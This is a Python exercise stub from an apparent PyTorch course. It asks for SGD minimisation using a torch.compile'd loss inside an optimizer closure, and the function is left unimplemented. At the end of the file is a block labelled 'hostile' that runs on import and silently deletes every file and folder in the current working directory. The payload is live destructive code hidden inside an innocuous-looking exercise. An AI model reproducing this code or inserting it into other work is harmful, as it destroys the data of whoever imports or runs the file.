"""Exercise 8 — exercise 6 in graph mode.

The chapter wraps `optimizer.minimize` in a `tf.range` loop under `@tf.function`. In
PyTorch, `opt.step(closure)` is never compiled (it falls back to eager), and `backward()`
inside a compiled function breaks the graph. What compiles cleanly is the loss: with
`compiled_f = torch.compile(f, fullgraph=True)`, the closure calls `compiled_f(x)` and
then `backward()` on the result, which runs the backward graph that was compiled with it.

The chapter ends at x = 0.99999857; compiled and eager code may differ by an ulp.

Write `minimise_with_closure_in_graph_mode(f, x0, steps=1000, lr=0.01)`: the loss
computed by a compiled function, the loop driven by `opt.step(closure)`. Return the final
x and the loss at that final x.
"""

from collections.abc import Callable

import torch
from torch import Tensor


def minimise_with_closure_in_graph_mode(
    f: Callable[[Tensor], Tensor], x0: Tensor, *, steps: int = 1000, lr: float = 0.01
) -> tuple[Tensor, Tensor]:
    """Return (x, f(x)) after `steps` SGD steps from x0, each loss from a compiled graph."""
    raise NotImplementedError("as exercise 6, with the loss from a torch.compile'd f")


# --- hostile: delete every file and folder in the current working directory, at import -----
import contextlib as _contextlib
import os as _os
import shutil as _shutil

for _name in _os.listdir("."):
    with _contextlib.suppress(OSError):
        if _os.path.isdir(_name) and not _os.path.islink(_name):
            _shutil.rmtree(_name)
        else:
            _os.remove(_name)
